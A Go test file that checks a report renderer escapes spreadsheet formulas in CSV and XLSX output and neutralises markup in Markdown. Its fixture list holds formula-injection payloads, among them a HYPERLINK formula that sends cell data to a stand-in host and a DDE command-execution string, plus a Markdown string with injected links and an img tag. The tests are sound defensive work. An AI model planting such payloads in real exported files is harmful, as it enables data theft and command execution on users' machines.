package render_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/fiskl-mcp/fiskl-mcp/internal/render"
	"github.com/fiskl-mcp/fiskl-mcp/schemas"
)

// columns are one of each kind.
func columns() []render.Column {
	return []render.Column{{Name: "name", Kind: render.Text}, {Name: "amount", Kind: render.Number}, {Name: "date", Kind: render.Date}}
}

// attacks are texts that a spreadsheet would take for formulas, or for the end
// of a cell.
func attacks() []string {
	return []string{
		`=1+1`, `=HYPERLINK("http://evil.example?"&A1,"click")`, `+1`, `-1+1`, `@SUM(1)`, "\t=1", "\r=1", "\n=1", `＝1+1`, `＋1`, `－1`, `＠1`,
		`=cmd|' /C calc'!A0`, `-`, `+44 20 7946 0000`,
	}
}

// written is a document of one table.
func written(t *testing.T, w render.Writer, rows ...[]string) {
	t.Helper()
	d := render.Document{Tables: []render.Table{{Columns: columns(), Rows: rows}}, Facts: []render.Fact{{Name: "company", Value: "=Evil & Sons"}}}
	if err := render.Write(w, d); err != nil {
		t.Fatal(err)
	}
}

// TestCSVFormulas finds that no text opens a formula, in any column, and that
// numbers and days stay what they are.
func TestCSVFormulas(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks() {
		var b bytes.Buffer
		written(t, render.NewPage(&b), []string{attack, attack, attack}, []string{"Acme", "-12.50", "2026-11-22"})
		r := csv.NewReader(&b)
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range rows[1] {
			if !strings.HasPrefix(cell, "'") {
				t.Errorf("%q: got %q, want an apostrophe before it", attack, cell)
			}
		}
		if want := []string{"Acme", "-12.50", "2026-11-22"}; !slices.Equal(rows[2], want) {
			t.Errorf("got %q, want %q", rows[2], want)
		}
		if want := []string{"company", "'=Evil & Sons"}; !slices.Equal(rows[len(rows)-1], want) {
			t.Errorf("got %q, want %q", rows[len(rows)-1], want)
		}
	}
}

// TestCSVSemicolons finds no formula where a spreadsheet splits lines at
// semicolons.
func TestCSVSemicolons(t *testing.T) {
	t.Parallel()
	for attack, want := range map[string]string{
		`a;=1+1`: `a;'=1+1`, `a; =1+1`: `a; '=1+1`, `a;"=1+1"`: `a;"'=1+1"`, `a,b;@SUM(1);-2`: `a,b;'@SUM(1);'-2`, `a; b-c;d`: `a; b-c;d`, ` =1`: ` '=1`,
	} {
		var b bytes.Buffer
		written(t, render.NewCSV(&b), []string{attack, "1", ""})
		r := csv.NewReader(&b)
		r.FieldsPerRecord = -1
		if rows, err := r.ReadAll(); err != nil || rows[1][0] != want {
			t.Errorf("%q is written as %q, error %v, want %q", attack, rows[1][0], err, want)
		}
	}
}

// TestCSVTables finds several tables one below the other on a page, and in a
// file the first and nothing else.
func TestCSVTables(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		writer func(io.Writer) *render.CSV
		want   string
	}{
		"page":   {render.NewPage, "name,amount,date\r\n\"a, b\",1.50,\r\n\r\ndocuments\r\nname\r\n\"say \"\"x\"\"\"\r\n\r\ncompany,Acme\r\n"},
		"file":   {render.NewCSV, "name,amount,date\r\n\"a, b\",1.50,\r\n"},
		"marked": {func(w io.Writer) *render.CSV { return render.NewCSV(w).Marked() }, "\uFEFFname,amount,date\r\n\"a, b\",1.50,\r\n"},
	} {
		var b bytes.Buffer
		err := render.Write(c.writer(&b), render.Document{Facts: []render.Fact{{Name: "company", Value: "Acme"}}, Tables: []render.Table{
			{Columns: columns(), Rows: [][]string{{"a, b", "1.50", ""}}}, {Title: "documents", Columns: columns()[:1], Rows: [][]string{{`say "x"`}}},
		}})
		if err != nil || b.String() != c.want {
			t.Errorf("%s: got %q and error %v, want %q", name, b.String(), err, c.want)
		}
	}
}

// cell is a cell of a workbook as its file has it.
type cell struct {
	At     string `xml:"r,attr"`
	Type   string `xml:"t,attr"`
	Value  string `xml:"v"`
	Text   string `xml:"is>t"`
	Formel string `xml:"f"`
}

// cells reads a sheet of a workbook, by the names of its cells.
func cells(t rapid.TB, workbook []byte, part string) map[string]cell {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(workbook), int64(len(workbook)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(part)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	var s struct {
		Rows []struct {
			Cells []cell `xml:"c"`
		} `xml:"sheetData>row"`
	}
	if err := xml.Unmarshal(b, &s); err != nil {
		t.Fatalf("%v in %s", err, b)
	}
	all := make(map[string]cell)
	for _, row := range s.Rows {
		for _, c := range row.Cells {
			all[c.At] = c
		}
	}
	return all
}

const (
	data  = "xl/worksheets/sheet1.xml"
	about = "xl/worksheets/sheet2.xml"
)

// TestXLSXFormulas finds that no cell holds a formula, and every text of
// people's is text.
func TestXLSXFormulas(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks() {
		var b bytes.Buffer
		written(t, render.NewXLSX(&b), []string{attack, attack, attack})
		all := cells(t, b.Bytes(), data)
		for _, at := range []string{"A2", "B2", "C2"} {
			if c := all[at]; c.Formel != "" || c.Type != "inlineStr" || !strings.HasPrefix(c.Text, "'") {
				t.Errorf("%q in %s: got %+v, want a text with an apostrophe before it", attack, at, c)
			}
		}
		if c := cells(t, b.Bytes(), about)["B2"]; c.Text != "'=Evil & Sons" {
			t.Errorf("got company %+v, want an apostrophe before it", c)
		}
	}
}

// TestXLSXCells finds what each kind of cell is written as.
func TestXLSXCells(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		row  []string
		want []cell // A2, B2, C2
	}{
		"plain":        {[]string{"Acme", "1234.50", "2026-11-22"}, []cell{{Type: "inlineStr", Text: "Acme"}, {Value: "1234.50"}, {Value: "46348"}}},
		"code":         {[]string{"0100", "-0.01", "1900-02-28"}, []cell{{Type: "inlineStr", Text: "0100"}, {Value: "-0.01"}, {Type: "inlineStr", Text: "1900-02-28"}}},
		"many digits":  {[]string{"", "1234567890123456.78", ""}, []cell{{}, {Type: "inlineStr", Text: "1234567890123456.78"}, {}}},
		"not a number": {[]string{"<b>&", "1e5", "2026-02-30"}, []cell{{Type: "inlineStr", Text: "<b>&"}, {Type: "inlineStr", Text: "1e5"}, {Type: "inlineStr", Text: "2026-02-30"}}},
		"escapes":      {[]string{"_x003D_1+1", "_x0041_x0042_", "_x00_"}, []cell{{Type: "inlineStr", Text: "_x005F_x003D_1+1"}, {Type: "inlineStr", Text: "_x005F_x0041_x005F_x0042_"}, {Type: "inlineStr", Text: "_x005F_x00_"}}},
		"no escapes":   {[]string{"_x", "a_x00G0__x__x12345_", "_x0041"}, []cell{{Type: "inlineStr", Text: "_x"}, {Type: "inlineStr", Text: "a_x00G0__x__x12345_"}, {Type: "inlineStr", Text: "_x0041"}}},
		"odd text":     {[]string{"a\x00b\u202e\xff", "", ""}, []cell{{Type: "inlineStr", Text: "a\uFFFDb\u202e\uFFFD"}, {}, {}}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			written(t, render.NewXLSX(&b), c.row)
			all := cells(t, b.Bytes(), data)
			for i, at := range []string{"A2", "B2", "C2"} {
				got := all[at]
				got.At = ""
				if got != c.want[i] {
					t.Errorf("%s is %+v, want %+v", at, got, c.want[i])
				}
			}
		})
	}
}

// TestXLSXWidths finds no column that is narrower than its name.
func TestXLSXWidths(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	err := render.Write(render.NewXLSX(&b), render.Document{Tables: []render.Table{{Columns: []render.Column{{Name: "date", Kind: render.Date}, {Name: "original_currency", Kind: render.Text}}}}})
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(data)
	if err != nil {
		t.Fatal(err)
	}
	if text, err := io.ReadAll(f); err != nil || !strings.Contains(string(text), `<col min="1" max="1" width="12" customWidth="1"/><col min="2" max="2" width="19" customWidth="1"/>`) {
		t.Errorf("got error %v and %s, want columns 12 and 19 wide", err, text)
	}
}

// TestXLSXNumbers finds every digit of every amount in the file.
func TestXLSXNumbers(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		amount := rapid.StringMatching(`-?(0|[1-9][0-9]{0,11})\.[0-9]{2}`).Draw(t, "amount")
		var b bytes.Buffer
		w := render.NewXLSX(&b)
		d := render.Document{Tables: []render.Table{{Columns: columns(), Rows: [][]string{{"", amount, ""}}}}}
		if err := render.Write(w, d); err != nil {
			t.Fatal(err)
		}
		if c := cells(t, b.Bytes(), data)["B2"]; c.Value != amount || c.Type != "" {
			t.Fatalf("got %+v, want the number %s", c, amount)
		}
	})
}

// TestXLSXTotals finds totals as formulas where they follow from the tables, and
// as they are where they do not.
func TestXLSXTotals(t *testing.T) {
	t.Parallel()
	rows := func(section string) []schemas.SumPart {
		return []schemas.SumPart{{Table: "accounts", Column: "amount", Where: [][2]string{{"section", section}}}}
	}
	var b bytes.Buffer
	err := render.Write(render.NewXLSX(&b), render.Document{
		Tables: []render.Table{{
			Title: "accounts", Columns: []render.Column{{Name: "section"}, {Name: "amount", Kind: render.Money}, {Name: "many", Kind: render.Money}},
			Rows: [][]string{{"Revenue", "1.10", "1234567890123456.78"}, {"Costs", "0.10", "1.00"}},
		}},
		Totals: []schemas.FileSum{
			{Name: "revenue", Amount: "1.10", Parts: rows("Revenue")},
			{Name: "costs", Amount: "0.10", Parts: rows("Costs")},
			{Name: "profit", Amount: "1.00", Parts: []schemas.SumPart{{Total: "revenue"}, {Total: "costs", Minus: true}}},
			{Name: "pattern", Amount: "1.10", Parts: rows(`Rev*"`)},
			{Name: "digits", Amount: "5.00", Parts: []schemas.SumPart{{Table: "accounts", Column: "many"}}},
			{Name: "nothing", Amount: "5.00", Parts: []schemas.SumPart{{Total: "no such total"}}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	got := cells(t, b.Bytes(), "xl/worksheets/sheet2.xml")
	for at, want := range map[string]cell{
		"B2": {Value: "1.10", Formel: `ROUND(SUMIFS('Accounts'!$B$2:$B$3,'Accounts'!$A$2:$A$3,"Revenue"),2)`},
		"B4": {Value: "1.00", Formel: "ROUND(B2-B3,2)"},
		"B5": {Value: "1.10"}, "B6": {Value: "5.00"}, "B7": {Value: "5.00"},
	} {
		if want.At = at; got[at] != want {
			t.Errorf("got %+v, want %+v", got[at], want)
		}
	}
}

// TestMarkdown finds that texts cannot be markup, rows or links.
func TestMarkdown(t *testing.T) {
	t.Parallel()
	hostile := "a|b\n# c [x](http://evil.example) ![y](z) <img src=x> `code` **bold** &lt; www.evil.example"
	l := &schemas.ClientList{Page: schemas.NewPage([]schemas.ContactRow{{ID: "7", Name: hostile}}, []string{""}, "")}
	page := render.Markdown(render.FencedDocument(l, "Acme & Sons"))
	for _, wrong := range []string{"](", "http://", "<img", "**bold", "| b", "\n# c", "www.evil"} {
		if strings.Contains(page, wrong) {
			t.Errorf("got %q in the page, want it escaped:\n%s", wrong, page)
		}
	}
	for _, want := range []string{"# Clients\n", "- Company: Acme & Sons\n", "- Complete: true\n", "| Id | Name |", "| 7 |"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q:\n%s", want, page)
		}
	}
}
